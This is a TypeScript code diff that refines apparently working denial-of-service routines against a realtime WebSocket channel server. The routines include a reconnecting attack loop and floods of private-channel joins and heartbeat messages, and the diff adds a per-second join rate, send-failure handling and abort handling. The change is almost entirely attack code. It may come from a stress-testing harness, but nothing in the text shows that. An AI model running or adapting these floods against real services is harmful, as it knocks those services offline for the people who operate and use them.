@@ -70,12 +70,15 @@ function message(topic: string, event: string, payload: object): string {
   return JSON.stringify(['1', '1', `realtime:${topic}`, event, payload]);
 }
 
+/** Sends a text, and resolves when the network has taken it: false when the connection is closed. */
+type Send = (text: string) => Promise<boolean>;
+
 /** Lets one connection after the other do its worst until `signal`; one that is closed or refused is opened again. */
 async function keepAttacking(
   attacked: Attacked,
   network: string,
   signal: AbortSignal,
-  attack: (socket: WebSocket, send: (text: string) => Promise<void>) => Promise<void>,
+  attack: (socket: WebSocket, send: Send) => Promise<void>,
 ): Promise<Sent> {
   const sent: Sent = { messages: 0, bytes: 0, closed: 0 };
   while (!signal.aborted) {
@@ -84,21 +87,23 @@ async function keepAttacking(
       await delay(100);
       continue;
     }
-    const ended = new AbortController();
-    socket.once('close', () => ended.abort());
-    const send = (text: string): Promise<void> =>
+    const send: Send = (text) =>
       new Promise((resolve) => {
-        // What the server does not take waits here: it must not fill the attacker's own memory.
-        socket.send(text, () => resolve());
+        if (socket.readyState !== WebSocket.OPEN) return resolve(false);
         sent.messages += 1;
         sent.bytes += text.length;
+        // What the server does not take waits here: it must not fill the attacker's own memory.
+        socket.send(text, (error) => resolve(!error));
+        return undefined;
       });
-    const stop = AbortSignal.any([signal, ended.signal]);
-    while (!stop.aborted && socket.readyState === WebSocket.OPEN) {
+    const stop = (): void => socket.terminate();
+    signal.addEventListener('abort', stop, { once: true });
+    while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
       await attack(socket, send);
-      await delay(0);
+      await delay(1);
     }
-    if (ended.signal.aborted) sent.closed += 1;
+    signal.removeEventListener('abort', stop);
+    if (!signal.aborted) sent.closed += 1;
     socket.terminate();
   }
   return sent;
@@ -126,11 +131,14 @@ export async function broadcastFlood(
   });
 }
 
-/** Joins private channels, each with a name of its own, on `connections` connections of one network. */
+/**
+ * Joins private channels, each with a name of its own, on several connections of one network, each of which joins
+ * `perSecond` times a second.
+ */
 export async function joinFlood(
   attacked: Attacked,
   network: string,
-  connections: number,
+  { connections, perSecond }: { readonly connections: number; readonly perSecond: number },
   signal: AbortSignal,
 ): Promise<Sent[]> {
   let topic = 0;
@@ -139,7 +147,7 @@ export async function joinFlood(
       keepAttacking(attacked, network, signal, async (_socket, send) => {
         topic += 1;
         await send(message(`join ${topic}`, 'phx_join', { config: { private: true } }));
-        await delay(20);
+        await delay(1000 / perSecond);
       }),
     ),
   );
@@ -157,7 +165,7 @@ export async function queueFlood(
     Array.from({ length: connections }, () =>
       keepAttacking(attacked, network, signal, async (_socket, send) => {
         await send(message('queue', 'phx_join', { config: { private: true } }));
-        for (let count = 0; count < 190; count += 1) await send(heartbeat);
+        for (let count = 0; count < 190; count += 1) if (signal.aborted || !(await send(heartbeat))) return;
       }),
     ),
   );
